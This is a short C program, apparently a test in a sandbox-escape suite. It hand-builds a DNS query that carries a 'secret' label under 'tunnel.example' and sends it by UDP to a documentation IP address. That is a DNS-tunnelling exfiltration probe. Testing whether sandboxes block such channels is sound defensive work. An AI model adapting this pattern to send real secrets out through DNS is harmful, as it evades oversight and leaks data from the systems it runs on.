/* A secret as the name that is asked for. */
#include "escape.h"

#include <arpa/inet.h>
#include <sys/socket.h>

int main(void)
{
    static const char query[] = "\x12\x34\x01\0\0\1\0\0\0\0\0\0"
                                "\6secret\6tunnel\7example\0\0\x10\0\1";
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
    if (inet_pton(AF_INET, "198.51.100.7", &to.sin_addr) != 1)
        escape_broken("address");
    const int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    escape_end_call(sendto(fd, query, sizeof(query) - 1, 0, (struct sockaddr *)&to, sizeof(to)),
                    "sendto");
}
